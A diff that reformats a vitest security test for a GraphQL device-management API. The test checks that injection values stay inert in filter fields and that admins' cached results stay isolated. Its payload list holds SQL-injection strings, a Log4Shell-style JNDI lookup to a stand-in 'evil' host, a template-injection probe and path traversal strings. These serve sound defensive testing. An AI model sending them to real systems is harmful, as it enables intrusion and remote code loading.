@@ -4,7 +4,18 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { encodeId } from '../../src/ids.js';
 import { startStack, type Stack } from '../helpers/stack.js';
 
-const PAYLOADS = ['" OR "common.id" > "0', '\\" OR "common.id" > "0', "' OR '1'='1", '${jndi:ldap://evil/x}', '#{7*7}', '../../api/v1/dm/devices', '%2f..%2fadmin', 'a;b', 'x\u0000y', '"'];
+const PAYLOADS = [
+  '" OR "common.id" > "0',
+  '\\" OR "common.id" > "0',
+  "' OR '1'='1",
+  '${jndi:ldap://evil/x}',
+  '#{7*7}',
+  '../../api/v1/dm/devices',
+  '%2f..%2fadmin',
+  'a;b',
+  'x\u0000y',
+  '"',
+];
 const FILTER_FIELDS = ['manufacturer', 'model', 'userPrincipal', 'userEmail', 'deviceSpaceName'];
 
 let stack: Stack;
@@ -18,7 +29,10 @@ beforeEach(() => stack.resetUpstreamStats());
 describe('injection attempts in every string that reaches EPMM', () => {
   it.each(FILTER_FIELDS)('filter.%s matches nothing for any hostile value (the value stays a value)', async (field) => {
     for (const payload of PAYLOADS) {
-      const response = await stack.gql<{ devices: { totalCount: number } }>('query($filter: DeviceFilter) { devices(first: 5, filter: $filter, source: EPMM) { totalCount } }', { filter: { [field]: payload } });
+      const response = await stack.gql<{ devices: { totalCount: number } }>(
+        'query($filter: DeviceFilter) { devices(first: 5, filter: $filter, source: EPMM) { totalCount } }',
+        { filter: { [field]: payload } },
+      );
       expect(response.errors, `${field}=${payload}`).toBeUndefined();
       expect(response.data!.devices.totalCount, `${field}=${payload}`).toBe(0);
     }
@@ -86,10 +100,21 @@ describe('injection attempts in mutation strings that reach EPMM', () => {
 
 describe('cache isolation under concurrency', () => {
   it('miadmin and emea, interleaved, each see only their own devices', async () => {
-    const emeaUuids = new Set(stack.simulator.world.devices.filter((device) => device.spaceId === 2).map((device) => device.uuid));
-    const query = 'query($after: String) { devices(first: 40, after: $after, source: EPMM) { totalCount nodes { uuid } } }';
+    const emeaUuids = new Set(
+      stack.simulator.world.devices.filter((device) => device.spaceId === 2).map((device) => device.uuid),
+    );
+    const query =
+      'query($after: String) { devices(first: 40, after: $after, source: EPMM) { totalCount nodes { uuid } } }';
     const runs = await Promise.all(
-      Array.from({ length: 24 }, (_, i) => stack.gql<{ devices: { totalCount: number; nodes: Array<{ uuid: string }> } }>(query, { after: null }, i % 2 === 0 ? 'emea' : 'miadmin').then((response) => ({ admin: i % 2 === 0 ? 'emea' : 'miadmin', response }))),
+      Array.from({ length: 24 }, (_, i) =>
+        stack
+          .gql<{ devices: { totalCount: number; nodes: Array<{ uuid: string }> } }>(
+            query,
+            { after: null },
+            i % 2 === 0 ? 'emea' : 'miadmin',
+          )
+          .then((response) => ({ admin: i % 2 === 0 ? 'emea' : 'miadmin', response })),
+      ),
     );
     for (const { admin, response } of runs) {
       const uuids = response.data!.devices.nodes.map((node) => node.uuid);
